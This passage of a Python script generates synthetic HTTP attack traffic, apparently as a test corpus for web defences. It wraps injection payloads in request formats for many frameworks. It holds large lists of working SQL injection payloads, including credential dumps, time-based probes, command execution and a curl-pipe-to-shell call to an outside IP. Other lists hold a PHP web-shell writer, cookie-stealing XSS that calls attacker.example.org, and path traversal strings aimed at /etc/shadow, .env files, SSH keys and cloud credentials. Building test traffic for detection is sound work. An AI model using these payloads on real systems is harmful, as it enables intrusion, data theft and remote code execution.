    c.json(cat, slug, "POST", H_GQL, "/graphql", obj, accept="gql", origin="https://shop.storefront.io",
           ua=c.pick(BROWSERS + ["ios-app", "android-app"]),
           extra=[("apollographql-client-name", "storefront-web"), ("apollographql-client-version", "3.14.2")])


def car_hasura(c, cat, slug, field, p):
    obj = c.gql_body(GQL_HASURA, {"where": {"_and": [{field: {"_ilike": p}}, {"user_id": {"_eq": c.uuid()}}]},
                                  "limit": 20}, "Workouts")
    c.json(cat, slug, "POST", H_HASURA, "/v1/graphql", obj, accept="json", ua=c.pick(["ios-app", "android-app", "chrome"]),
           extra=[("Authorization", "Bearer " + c.jwt()), ("x-hasura-role", "user")])


def car_apollo_get(c, cat, slug, field, p):
    ext = {"persistedQuery": {"version": 1, "sha256Hash": c.hex(64)}}
    uri = (f"/graphql?operationName=Search&variables={uric(jd({'term': p, 'first': 12}))}"
           f"&extensions={uric(jd(ext))}")
    c.req(cat, slug, "GET", H_GQL, uri, accept="gql", ua=c.pick(BROWSERS),
          extra=[("apollo-require-preflight", "true"), ("apollographql-client-name", "storefront-web")])


def car_ndjson(c, cat, slug, field, p):
    if c.chance(0.5):
        lines = [{"index": {"_index": "reviews", "_id": c.uuid()}},
                 {"product_id": c.num(100, 9999), "rating": 5, "author": "Ana", "text": "Great fit, fast delivery."},
                 {"index": {"_index": "reviews", "_id": c.uuid()}},
                 {"product_id": c.num(100, 9999), "rating": 2, "author": "Lee", field: p}]
        c.req(cat, slug, "POST", "search.quickcart.dev:9200", "/_bulk?refresh=wait_for",
              "".join(jd(x) + "\n" for x in lines), "application/x-ndjson", accept="json", ua="es-py",
              extra=[("Authorization", "ApiKey " + c.b64(40))])
    else:
        base = {"service": "checkout", "env": "prod"}
        lines = [dict(base, ts=c.ts(), level="info", msg="order created", order_id=c.num(10000, 99999)),
                 dict(base, ts=c.ts(), level="info", msg="payment authorised", amount=42.5),
                 dict(base, ts=c.ts(), level="warn", msg="address validation", **{field: p})]
        c.req(cat, slug, "POST", "logs.quickcart.dev", "/ingest/v1/batch", "".join(jd(x) + "\n" for x in lines),
              "application/x-ndjson", accept="json", ua=c.pick(["vector", "fluentbit"]),
              extra=[("Authorization", "Bearer " + c.alnum(40))])


def car_gzip_json(c, cat, slug, field, p):
    kind = c.pick(["segment", "api", "otlp"])
    if kind == "segment":
        obj = {"batch": [{"type": "track", "event": "Products Searched", "messageId": c.uuid(),
                          "anonymousId": c.uuid(), "timestamp": c.ts(), "properties": {field: p, "results": 0},
                          "context": {"app": {"name": "QuickCart", "version": "7.3.0"}, "os": {"name": "iOS"}}}],
               "sentAt": c.ts(), "writeKey": c.alnum(32)}
        host, uri, ua = "events.quickcart.dev", "/v1/batch", "ios-app"
    elif kind == "api":
        obj = {"order": {"id": c.num(10000, 99999), "note": "ring twice", field: p}}
        host, uri, ua = H_EXPRESS, "/api/v2/orders/draft", "android-app"
    else:
        obj = {"resourceLogs": [{"resource": {"attributes": [{"key": "service.name", "value": {"stringValue": "web"}}]},
                                 "scopeLogs": [{"scope": {"name": "app"}, "logRecords": [
                                     {"timeUnixNano": c.nanos(), "severityText": "INFO",
                                      "body": {"stringValue": "user search"},
                                      "attributes": [{"key": field, "value": {"stringValue": p}}]}]}]}]}
        host, uri, ua = "otel.fleetops.io", "/v1/logs", "otel-js"
    c.req_raw(cat, slug, "POST", host, uri, gz(jd(obj)), JSON, cenc="gzip", accept="json", ua=ua)


def car_deflate_form(c, cat, slug, field, p):
    body = formenc([(field, p), ("page", "1"), ("lang", "en")])
    c.req_raw(cat, slug, "POST", c.pick([H_DJANGO, H_RAILS, H_LARAVEL]), c.pick(["/search", "/api/lookup", "/feedback"]),
              deflate(body), FORM, cenc="deflate", accept="json", ua=c.pick(["android-app", "okhttp", "dart"]))


def car_json_patch(c, cat, slug, field, p):
    ops = [{"op": "test", "path": "/version", "value": c.num(2, 30)},
           {"op": "replace", "path": "/" + field, "value": p}]
    if c.chance(0.4):
        ops.insert(1, {"op": "add", "path": "/tags/-", "value": "priority"})
    c.req(cat, slug, "PATCH", c.pick([H_SPRING, H_EXPRESS, H_ASPNET]), f"/api/v1/records/{c.num(1, 99999)}",
          jd(ops), "application/json-patch+json", accept="json", ua=c.pick(["chrome", "python", "axios", "okhttp"]),
          extra=[("Authorization", "Bearer " + c.jwt())])


def car_merge_patch(c, cat, slug, field, p):
    obj = {"profile": {field: p}, "nickname": None}
    c.req(cat, slug, "PATCH", c.pick([H_SPRING, H_EXPRESS]), f"/api/users/{c.num(1, 99999)}", jd(obj),
          "application/merge-patch+json", accept="json", ua=c.pick(["chrome", "axios", "go"]),
          extra=[("Authorization", "Bearer " + c.jwt())])


def car_ce_binary(c, cat, slug, field, p):
    obj = {"orderId": f"ord_{c.alnum(14)}", "customer": {"id": c.num(1, 99999), field: p}}
    c.req(cat, slug, "POST", "events.fleetops.io", "/", jd(obj), JSON, accept=None, ua=c.pick(["knative", "dapr"]),
          extra=[("ce-specversion", "1.0"), ("ce-type", "com.fleetops.order.created"),
                 ("ce-source", "/orders/api"), ("ce-id", c.uuid()), ("ce-time", c.ts())])


def car_ce_structured(c, cat, slug, field, p):
    obj = {"specversion": "1.0", "type": "com.fleetops.ticket.commented", "source": "/support/tickets",
           "id": c.uuid(), "time": c.ts(), "datacontenttype": "application/json",
           "data": {"ticket": c.num(1000, 9999), field: p}}
    c.req(cat, slug, "POST", "events.fleetops.io", "/api/events", jd(obj), "application/cloudevents+json; charset=UTF-8",
          accept="json", ua=c.pick(["knative", "dapr", "node"]))


def car_htmx_form(c, cat, slug, field, p):
    path = c.pick(["/todos", "/contacts", "/projects/12/comments", "/search"])
    pairs = [(field, p), ("list_id", str(c.num(1, 80))), ("source", "sidebar")]
    c.form(cat, slug, "POST", H_HTMX, path, pairs, accept="any", origin=True, referer=path, cookie=c.cookie("htmx"),
           extra=[("HX-Request", "true"), ("HX-Current-URL", f"https://{H_HTMX}{path}"),
                  ("HX-Target", c.pick(["results", "todo-list", "comments"])), ("HX-Trigger", f"{field}-form")])


def car_htmx_json(c, cat, slug, field, p):
    path = c.pick(["/api/todos", "/api/comments"])
    obj = {field: p, "list_id": str(c.num(1, 80)), "position": "top"}
    c.json(cat, slug, "POST", H_HTMX, path, obj, accept="any", origin=True, referer="/board", cookie=c.cookie("htmx"),
           extra=[("HX-Request", "true"), ("HX-Current-URL", f"https://{H_HTMX}/board"),
                  ("HX-Trigger-Name", field)])


def car_wp_content(c, cat, slug, field, p):
    pid = c.num(100, 9999)
    if cat in ("xss", "ssti", "php"):
        obj = {"title": "Spring planting checklist",
               "content": f"<!-- wp:paragraph -->\n<p>{p}</p>\n<!-- /wp:paragraph -->", "status": "draft"}
    else:
        obj = {"title": "Spring planting checklist", "meta": {field: p}, "status": "draft"}
    c.json(cat, slug, "POST", H_WP, f"/wp-json/wp/v2/posts/{pid}?_locale=user", obj, origin=True,
           referer=f"/wp-admin/post.php?post={pid}&action=edit", cookie=c.cookie("wp"),
           extra=[("X-WP-Nonce", c.hex(10))])


def car_wp_query(c, cat, slug, field, p):
    pairs = [("search", p), ("per_page", "10"), ("_embed", "1")]
    c.req(cat, slug, "GET", H_WP, "/wp-json/wp/v2/posts?" + qs(pairs), accept="json", ua=c.pick(BROWSERS))


def car_mp_field(c, cat, slug, field, p):
    host, tokname, tok, ck = c.pick([(H_RAILS, "authenticity_token", c.rails_token(), c.cookie("rails")),
                                     (H_LARAVEL, "_token", c.laravel_token(), c.cookie("laravel")),
                                     (H_DJANGO, "csrfmiddlewaretoken", c.django_token(), c.cookie("django"))])
    parts = [(tokname, tok), (field, p),
             ("document", c.pick(["notes.txt", "summary.txt"]), "text/plain", "Meeting notes, 3 pages.\n")]
    c.mp(cat, slug, "POST", host, "/documents", parts, origin=True, referer="/documents/new", cookie=ck,
         ua=c.pick(BROWSERS))


def car_mp_filename(c, cat, slug, field, p):
    host = c.pick([H_RAILS, H_LARAVEL, H_DJANGO, H_EXPRESS, H_ASPNET])
    parts = [("title", "Scanned invoice"), ("file", browser_filename(p), "application/pdf", PDF_STUB)]
    c.mp(cat, slug, "POST", host, c.pick(["/uploads", "/api/attachments", "/documents"]), parts, origin=True,
         referer="/uploads/new", ua=c.pick(BROWSERS))


def car_strapi(c, cat, slug, field, p):
    pairs = [(f"filters[{field}][$containsi]", p), ("populate", "*"), ("pagination[pageSize]", "10"),
             ("sort[0]", "publishedAt:desc")]
    c.req(cat, slug, "GET", H_STRAPI, "/api/articles?" + qs(pairs), accept="json", ua=c.pick(["chrome", "node"]))


def car_directus(c, cat, slug, field, p):
    if c.chance(0.5):
        uri = f"/items/exhibits?filter={uric(jd({field: {'_icontains': p}}))}&fields=*,curator.name&limit=25"
    else:
        uri = "/items/exhibits?" + qs([(f"filter[{field}][_eq]", p), ("fields", "*"), ("sort", "-date_created")])
    c.req(cat, slug, "GET", H_DIRECTUS, uri, accept="json", ua=c.pick(["chrome", "node", "firefox"]),
          extra=[("Authorization", "Bearer " + c.alnum(32))])


def car_phoenix_form(c, cat, slug, field, p):
    pairs = [("_method", "put"), ("_csrf_token", c.phoenix_token()), (f"user[{field}]", p)]
    c.form(cat, slug, "POST", H_PHOENIX, "/users/settings", pairs, origin=True, referer="/users/settings",
           cookie=c.cookie("phoenix"), ua=c.pick(BROWSERS))


def car_liveview(c, cat, slug, field, p):
    tok = c.phoenix_token()
    val = formenc([("_csrf_token", tok), (f"poll[{field}]", p), ("poll[closes_at]", "2025-07-01")])
    msg = [str(c.num(2, 9)), str(c.num(10, 90)), "lv:phx-F" + c.b64(12, url=True, pad=False), "event",
           {"type": "form", "event": "save", "value": val, "meta": {}}]
    c.req(cat, slug, "POST", H_PHOENIX, f"/live/longpoll?_csrf_token={tok}&vsn=2.0.0&token={c.b64(24, url=True, pad=False)}",
          jd(msg), JSON, accept="any", origin=True, referer="/polls/new", cookie=c.cookie("phoenix"))


def car_aspnet_form(c, cat, slug, field, p):
    page = c.pick(["/Employees/Edit.aspx?id=" + str(c.num(1, 900)), "/Requests/New.aspx", "/Directory/Search.aspx"])
    pairs = [("__EVENTTARGET", ""), ("__EVENTARGUMENT", ""), ("__VIEWSTATE", c.viewstate()),
             ("__VIEWSTATEGENERATOR", c.hex(8).upper()), ("__EVENTVALIDATION", c.eventvalidation()),
             (f"ctl00$MainContent$txt{_title(field)}", p), ("ctl00$MainContent$btnSave", "Save")]
    c.form(cat, slug, "POST", H_ASPNET, page, pairs, origin=True, referer=page, cookie=c.cookie("aspnet"),
           ua=c.pick(["edge", "chrome", "firefox-win"]))


def car_spring_query(c, cat, slug, field, p):
    uri = "/api/vehicles/search/findByNameContaining?" + qs([(field, p), ("page", "0"), ("size", "20"), ("sort", "name,asc")])
    c.req(cat, slug, "GET", H_SPRING, uri, accept="hal", ua=c.pick(["chrome", "okhttp", "axios"]),
          extra=[("Authorization", "Bearer " + c.jwt())])


def car_spring_json(c, cat, slug, field, p):
    obj = {field: p, "status": "ACTIVE", "depot": f"https://{H_SPRING}/api/depots/{c.num(1, 40)}"}
    c.json(cat, slug, "POST", H_SPRING, "/api/vehicles", obj, accept="hal", ua=c.pick(["chrome", "okhttp", "axios"]),
           extra=[("Authorization", "Bearer " + c.jwt())])


def car_nest_json(c, cat, slug, field, p):
    obj = {"where": {"AND": [{field: {"contains": p}}, {"status": {"in": ["OPEN", "PENDING"]}}]},
           "orderBy": [{"createdAt": "desc"}], "take": 50}
    c.json(cat, slug, "POST", H_EXPRESS, "/api/v1/tickets/query", obj, accept="axios",
           ua=c.pick(["chrome", "axios"]), extra=[("Authorization", "Bearer " + c.jwt())])


def car_socketio(c, cat, slug, field, p):
    body = "42" + jd(["message", {"room": "general", field: p}])
    uri = f"/socket.io/?EIO=4&transport=polling&t={c.alnum(7)}&sid={c.b64(15, url=True, pad=False)}"
    c.req(cat, slug, "POST", H_EXPRESS, uri, body, TEXT_PLAIN, accept="any", origin=f"https://app.quickcart.dev",
          ua=c.pick(BROWSERS))


def car_signalr(c, cat, slug, field, p):
    body = jd({"type": 1, "target": "SendMessage", "arguments": ["support", p]}) + "\x1e"
    c.req(cat, slug, "POST", H_ASPNET, f"/hubs/chat?id={c.b64(16, url=True, pad=False)}", body, TEXT_PLAIN,
          accept="any", origin=True, ua=c.pick(["edge", "chrome"]),
          extra=[("X-Requested-With", "XMLHttpRequest"), ("X-SignalR-User-Agent", TOOLS["signalr"])])


def car_utf16_json(c, cat, slug, field, p):
    body = utf16(jds({field: p, "page": 1}))
    c.req_raw(cat, slug, "POST", H_ASPNET, "/api/directory/search", body, "application/json; charset=utf-16",
              accept="json", ua="Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; WOW64; Trident/7.0; .NET4.0C)")


def car_odata(c, cat, slug, field, p):
    flt = f"contains({_title(field)},'{p}')"
    uri = f"/odata/Employees?$filter={q(flt, safe='(),')}&$top=20&$select=Id,FirstName,LastName"
    c.req(cat, slug, "GET", H_ASPNET, uri, accept="json", ua=c.pick(["edge", "chrome"]), cookie=c.cookie("aspnet"))


def car_get_param(c, cat, slug, field, p):
    """A plain GET parameter on a typical framework route (download, view, proxy, export)."""
    host, path, ck = c.pick([(H_RAILS, "/pages/show", "rails"), (H_LARAVEL, "/download", "laravel"),
                             (H_DJANGO, "/reports/export/", "django"), (H_WP, "/index.php", "wp"),
                             (H_EXPRESS, "/api/v1/files", "express"), (H_SPRING, "/view", "spring"),
                             (H_ASPNET, "/Download.ashx", "aspnet"), (H_PHOENIX, "/docs", "phoenix")])
    uri = f"{path}?{qs([(field, p), ('v', str(c.num(1, 4)))])}"
    c.req(cat, slug, "GET", host, uri, accept="html", cookie=c.cookie(ck), ua=c.pick(BROWSERS + ["curl", "python"]))


def spread(c, cat, items, carriers, fields):
    """Each payload goes to the next carrier of a (seeded) shuffled list; field names rotate."""
    cars = list(carriers)
    c.r.shuffle(cars)
    for i, (slug, p) in enumerate(items):
        car = cars[i % len(cars)]
        car(c, cat, f"{slug}-{car.__name__[4:].replace('_', '-')}", fields[i % len(fields)], p)


def hdr_attack(c, cat, slug, method, host, uri, hname, value, body=None, ctype=None, ua="chrome", **kw):
    """A header carries the payload (replaces User-Agent when hname is User-Agent)."""
    if hname.lower() == "user-agent":
        ua = value
        extra = list(kw.pop("extra", ()))
    else:
        extra = list(kw.pop("extra", ())) + [(hname, value)]
    c.req(cat, slug, method, host, uri, body, ctype, ua=ua, extra=extra, **kw)


# ==========================================================================
# ATTACKS: classes
# ==========================================================================

SQLI = [
    ("union-users", "' UNION SELECT id,email,encrypted_password FROM users--"),
    ("union-null-infoschema", "1 UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables-- -"),
    ("union-version-hash", "-1' union select 1,@@version,3#"),
    ("union-paren-close", "') UNION SELECT username, password FROM auth_user WHERE ('a'='a"),
    ("union-group-concat", "0 UNION SELECT 1,group_concat(username,0x3a,password),3 FROM users"),
    ("union-sqlite-master", "' UNION SELECT sql,NULL FROM sqlite_master--"),
    ("union-oracle-version", "' UNION SELECT banner,NULL FROM v$version--"),
    ("union-comment-case", "1'/**/UnIoN/**/SeLeCt/**/password,2/**/FrOm/**/users--"),
    ("union-mysql-versioned", "1 /*!50000UNION*/ /*!50000SELECT*/ user(),database()-- -"),
    ("union-pg-shadow", "1 UNION SELECT string_agg(usename||':'||passwd,','),NULL FROM pg_shadow--"),
    ("union-hex-literal", "1 UNION SELECT 0x61646d696e,password FROM users--"),
    ("union-char-func", "-1 UNION SELECT CHAR(117,115,101,114),password FROM users--"),
    ("union-load-file", "1 union select load_file('/etc/passwd'),2--"),
    ("or-true-quote", "' OR '1'='1"),
    ("or-true-comment", "admin' OR 1=1-- -"),
    ("login-bypass-hash", "admin'#"),
    ("or-true-limit", "' or 1=1 limit 1 -- -+"),
    ("and-substring-blind", "1 AND (SELECT SUBSTRING(password,1,1) FROM users WHERE username='admin')='a'"),
    ("ascii-blind", "' AND ASCII(SUBSTRING((SELECT current_user),1,1))>64--"),
    ("or-double-quote", "\" OR \"\"=\""),
    ("like-blind", "x' AND (SELECT 1 FROM users WHERE username='admin' AND password LIKE 'a%')=1-- "),
    ("rlike-case", "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"),
    ("sleep-mysql", "1' AND SLEEP(5)-- -"),
    ("sleep-subselect", "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)"),
    ("pg-sleep-stacked", "1;SELECT pg_sleep(10)--"),
    ("waitfor-delay", "'; WAITFOR DELAY '0:0:5'--"),
    ("pg-case-sleep", "' || (SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)--"),
    ("benchmark-md5", "1 AND BENCHMARK(5000000,MD5(1))"),
    ("sqlite-randomblob", "1 AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))"),
    ("if-version-sleep", "1' AND IF(SUBSTR(@@version,1,1)='8',SLEEP(5),0)-- -"),
    ("oracle-dbms-pipe", "' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--"),
    ("stacked-drop", "1; DROP TABLE users--"),
    ("stacked-insert-admin", "'; INSERT INTO admins(email,role) VALUES('ops@attacker.example.org','owner')--"),
    ("stacked-xp-cmdshell", "1; EXEC xp_cmdshell 'whoami'--"),
    ("stacked-copy-program", "'; COPY (SELECT '') TO PROGRAM 'curl http://198.51.100.77/x|sh'--"),
    ("stacked-update-role", "1;UPDATE users SET role='admin' WHERE id=7--"),
    ("stacked-xp-dirtree", "'; EXEC master..xp_dirtree '\\\\k2p9.oast.site\\a'--"),
    ("into-outfile-shell", "1' UNION SELECT '<?php system($_GET[c]); ?>',2 INTO OUTFILE '/var/www/html/s.php'-- -"),
    ("error-extractvalue", "' AND extractvalue(1,concat(0x7e,(select version())))--"),
    ("error-updatexml", "1 AND updatexml(1,concat(0x7e,user()),1)"),
    ("error-convert-int", "' AND 1=CONVERT(int,(SELECT @@version))--"),
    ("error-cast-pg", "' AND 1=CAST((SELECT password FROM users LIMIT 1) AS int)--"),
    ("error-utl-inaddr", "' AND 1=utl_inaddr.get_host_name((select user from dual))--"),
    ("error-current-setting", "1' AND 1=(SELECT CAST(current_setting('data_directory') AS int))--"),
    ("json-op-bypass", "' OR '{\"a\":1}'::jsonb @> '{}'::jsonb--"),
    ("json-extract-bypass", "1 or json_extract('{\"a\":1}','$.a')=1"),
    ("group-having-probe", "1' GROUP BY 1,2 HAVING 1=1--"),
    ("order-by-enum", "1' ORDER BY 10-- -"),
    ("procedure-analyse", "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,version())),1)"),
    ("openrowset", "'; SELECT * FROM OPENROWSET('SQLOLEDB','server=198.51.100.77;uid=sa;pwd=x','select 1')--"),
]
SQLI_FIELDS = ["name", "q", "email", "last_name", "sku", "title", "city", "reference", "search", "tag"]
SQLI_CARRIERS = [car_rails_query, car_rails_form, car_django_lookup, car_django_admin, car_drf_json, car_livewire2,
                 car_livewire3, car_inertia, car_next_action, car_next_rsc, car_qs_bracket, car_json_cookie,
                 car_signed_cookie, car_graphql, car_hasura, car_apollo_get, car_ndjson, car_gzip_json,
                 car_deflate_form, car_json_patch, car_ce_binary, car_htmx_form, car_wp_query, car_mp_field,
                 car_strapi, car_directus, car_aspnet_form, car_spring_query, car_nest_json, car_odata,
                 car_socketio, car_utf16_json, car_phoenix_form, car_liveview, car_next_data, car_django_form,
                 car_mp_filename]


def atk_sqli(c):
    spread(c, "sqli", SQLI, SQLI_CARRIERS, SQLI_FIELDS)
    # ORDER BY injection through framework sort parameters
    for slug, sort in [("spring-sort-case", "(CASE WHEN (SELECT SUBSTRING(password,1,1) FROM users WHERE username='admin')='a' THEN name ELSE vin END),asc"),
                       ("spring-sort-pg-sleep", "name,(SELECT 1 FROM pg_sleep(5))"),
                       ("spring-sort-stacked", "id;SELECT pg_sleep(5)--,desc")]:
        c.req("sqli", slug, "GET", H_SPRING, "/api/vehicles?" + qs([("page", "0"), ("size", "20"), ("sort", sort)]),
              accept="hal", ua="chrome", extra=[("Authorization", "Bearer " + c.jwt())])
    c.req("sqli", "rails-order-direction", "GET", H_RAILS,
          "/orders?" + qs([("sort", "created_at"), ("direction", "desc,(select case when (select substring(version(),1,1))='8' then sleep(5) else 1 end)")]),
          accept="html", cookie=c.cookie("rails"))
    c.req("sqli", "django-order-by-cve-2021-35042", "GET", H_DJANGO,
          "/api/v1/appointments/?" + qs([("order_by", "clinic_appointment.id);SELECT pg_sleep(5);--")]),
          accept="json", cookie=c.cookie("django"))
    c.req("sqli", "django-jsonfield-key", "GET", H_DJANGO,
          "/api/v1/patients/?" + q("details__owner') = '\"x\"' OR 1=1 OR ('a") + "=1", accept="json", cookie=c.cookie("django"))
    c.req("sqli", "django-trunc-kind", "GET", H_DJANGO,
          "/api/v1/stats/visits?" + qs([("kind", "day' FROM start_datetime)) OR 1=1;SELECT PG_SLEEP(5)--")]),
          accept="json", cookie=c.cookie("django"))
    c.req("sqli", "laravel-json-path", "GET", H_LARAVEL,
          "/clients?" + qs([("sort", "meta->\"')) UNION SELECT password FROM users#")]), accept="inertia",
          cookie=c.cookie("laravel"), extra=[("X-Inertia", "true"), ("X-Requested-With", "XMLHttpRequest")])


XSS = [
    ("img-onerror", "<img src=x onerror=alert(document.domain)>"),
    ("svg-onload-fetch", "<svg onload=fetch('//attacker.example.org/c?'+document.cookie)>"),
    ("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("details-ontoggle", "<details open ontoggle=alert(document.cookie)>"),
    ("script-breakout", "\"><script>alert(document.domain)</script>"),
    ("script-src-remote", "<script src=https://static.evil-cdn.example/x.js></script>"),
    ("javascript-url", "javascript:alert(document.cookie)"),
    ("javascript-url-tab", "java\tscript:alert(document.domain)"),
    ("javascript-colon-entity", "<a href=\"javascript&colon;alert(1)\">Download invoice</a>"),
    ("javascript-hex-entity", "<a href=\"&#x6A;avascript:alert(1)\">x</a>"),
    ("iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;parent.alert(document.cookie)&lt;/script&gt;\"></iframe>"),
    ("mxss-math-mglyph", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"),
    ("mxss-noscript-title", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>"),
    ("mxss-svg-style", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"),
    ("mxss-form-math", "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">"),
    ("template-literal-handler", "<img src=x onerror=alert`1`>"),
    ("template-literal-js-string", "';alert`${document.domain}`//"),
    ("js-string-minus", "'-alert(document.cookie)-'"),
    ("script-close-atob", "</script><script>eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))</script>"),
    ("attr-autofocus", "\" autofocus onfocus=alert(document.domain) x=\""),
    ("video-source-onerror", "<video><source onerror=\"alert(1)\"></video>"),
    ("object-data-uri", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("embed-javascript", "<embed src=\"javascript:alert(1)\">"),
    ("button-formaction", "<form><button formaction=javascript:alert(1)>Continue</button></form>"),
    ("custom-tag-onfocus", "<xss id=x tabindex=1 onfocus=alert(1) autofocus>"),
    ("img-cookie-exfil", "<img src=x onerror=\"this.src='https://attacker.example.org/?c='+document.cookie\">"),
    ("angular-csti", "{{constructor.constructor('alert(document.domain)')()}}"),
    ("vue-csti", "{{_c.constructor('alert(1)')()}}"),
    ("meta-refresh-js", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    ("svg-xlink-href", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">Open</text></a></svg>"),
    ("attr-onmouseover", "\" onmouseover=\"alert(document.cookie)"),
    ("img-dynamic-import", "<img src=1 onerror=import('//attacker.example.org/m.js')>"),
    ("svg-concat-obfus", "<svg/onload=self[`al`+`ert`](1)>"),
    ("window-eval-atob", "<img src=x onerror=window['ev'+'al'](atob('YWxlcnQoMSk='))>"),
    ("body-onpageshow", "<body onpageshow=alert(1)>"),
    ("markdown-js-link", "[Click here for the invoice](javascript:alert(document.cookie))"),
    ("markdown-img-attr", "![logo](https://example.com/a.png\"onerror=\"alert(1))"),
    ("htmx-hx-on", "<button hx-on:click=\"fetch('https://attacker.example.org/?'+document.cookie)\">Claim reward</button>"),
    ("htmx-hx-on-load", "<img src=x hx-on::load=\"alert(document.domain)\">"),
    ("turbo-stream-script", "<turbo-stream action=\"append\" target=\"messages\"><template><script>alert(document.domain)</script></template></turbo-stream>"),
    ("svg-foreignobject", "<svg><foreignObject><iframe src=\"javascript:alert(1)\"></iframe></foreignObject></svg>"),
    ("js-unicode-escape", "<img src=x onerror=\\u0061lert(1)>"),
    ("entity-encoded-handler", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("dialog-onclose", "<dialog open onclose=alert(1)><form method=dialog><button>OK</button></form></dialog>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>sale</marquee>"),
    ("anchor-data-uri", "<a href=\"data:text/html,<script>alert(document.domain)</script>\">preview</a>"),
    ("textarea-breakout", "</textarea><svg onload=alert(1)>"),
    ("title-breakout", "</title><img src=x onerror=alert(1)>"),
    ("style-breakout", "</style><script>alert(1)</script>"),
    ("settimeout-string", "<svg onload=setTimeout('al'+'ert(1)')>"),
    ("location-hash-eval", "<img src=x onerror=eval(location.hash.slice(1))>"),
    ("onanimationstart", "<style>@keyframes x{}</style><p style=\"animation-name:x\" onanimationstart=\"alert(1)\"></p>"),
]
XSS_FIELDS = ["bio", "comment", "display_name", "message", "website", "title", "description", "note", "body", "tagline"]
XSS_CARRIERS = [car_rails_form, car_rails_json, car_django_form, car_drf_json, car_livewire2, car_livewire3,
                car_inertia, car_next_action, car_next_action_mp, car_json_cookie, car_graphql, car_ndjson,
                car_gzip_json, car_deflate_form, car_json_patch, car_merge_patch, car_ce_structured, car_htmx_form,
                car_htmx_json, car_wp_content, car_mp_field, car_mp_filename, car_strapi, car_phoenix_form,
                car_liveview, car_aspnet_form, car_nest_json, car_socketio, car_signalr, car_next_rsc,
                car_django_admin, car_rails_query, car_apollo_get, car_wp_content]


def atk_xss(c):
    spread(c, "xss", XSS, XSS_CARRIERS, XSS_FIELDS)
    svg = ('<?xml version="1.0" standalone="no"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" '
           'onload="fetch(\'https://attacker.example.org/c?\'+document.cookie)">\n<circle cx="32" cy="32" r="30" fill="#3b82f6"/>\n'
           '<script type="text/javascript">alert(document.domain)</script>\n</svg>\n')
    c.mp("xss", "svg-upload-script-rails-avatar", "POST", H_RAILS, "/users/avatar",
         [("authenticity_token", c.rails_token()), ("_method", "patch"), ("user[avatar]", "avatar.svg", "image/svg+xml", svg)],
         origin=True, referer="/users/edit", cookie=c.cookie("rails"))
    c.mp("xss", "html-upload-wp-media", "POST", H_WP, "/wp-json/wp/v2/media",
         [("file", "menu.html", "text/html", "<html><body><script>document.location='https://attacker.example.org/?c='+document.cookie</script></body></html>\n"),
          ("title", "Menu")], origin=True, cookie=c.cookie("wp"), extra=[("X-WP-Nonce", c.hex(10))])
    obj = jd_ascii({"updates": [{"type": "syncInput", "payload": {"id": "x1", "name": "message",
                                                                  "value": "<img src=x onerror=alert(document.cookie)>"}}]})
    obj = obj.replace("<", "\\u003c").replace(">", "\\u003e")
    c.req("xss", "json-unicode-escaped-livewire", "POST", H_LARAVEL, "/livewire/message/chat-box", obj, JSON,
          accept="inertia", origin=True, cookie=c.cookie("laravel"), extra=[("X-Livewire", "true")])
    c.req("xss", "nextauth-callbackurl-javascript", "GET", H_NEXT,
          "/api/auth/signin?" + qs([("callbackUrl", "javascript:fetch('//attacker.example.org/'+document.cookie)")]),
          accept="html")
    c.form("xss", "wp-comment-post", "POST", H_WP, "/wp-comments-post.php",
           [("comment", "Nice post!<img src=x onerror=\"fetch('https://attacker.example.org/?'+document.cookie)\">"),
            ("author", "Jamie"), ("email", "jamie@example.com"), ("url", ""), ("submit", "Post Comment"),
            ("comment_post_ID", str(c.num(100, 999))), ("comment_parent", "0")],
           origin=True, referer="/2025/05/tomato-guide/")


LFI = [
    ("etc-passwd-deep", "../../../../../../etc/passwd"),
    ("encoded-dotdot", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("dotdot-filter-bypass", "....//....//....//etc/passwd"),
    ("proc-self-environ", "../../../../proc/self/environ"),
    ("windows-win-ini", "..\\..\\..\\..\\windows\\win.ini"),
    ("rails-database-yml", "../../../config/database.yml"),
    ("rails-master-key", "../../config/master.key"),
    ("laravel-env", "../../../.env"),
    ("django-settings", "../../../clinic/settings.py"),
    ("null-byte-ext", "../../../../etc/passwd\x00.png"),
    ("overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("absolute-shadow", "/etc/shadow"),
    ("aws-credentials", "../../../../root/.aws/credentials"),
    ("ssh-private-key", "../../../../home/deploy/.ssh/id_rsa"),
    ("aspnet-web-config", "..\\..\\web.config"),
    ("java-web-xml", "../../WEB-INF/web.xml"),
    ("proc-cmdline", "/proc/self/cmdline"),
    ("k8s-sa-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("file-uri", "file:///etc/passwd"),
    ("php-filter-b64", "php://filter/convert.base64-encode/resource=../config/app.php"),
    ("double-encoded", "%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("iis-unicode-slash", "..%u2216..%u2216..%u2216windows%u2216win.ini"),
    ("git-config", "../../../.git/config"),
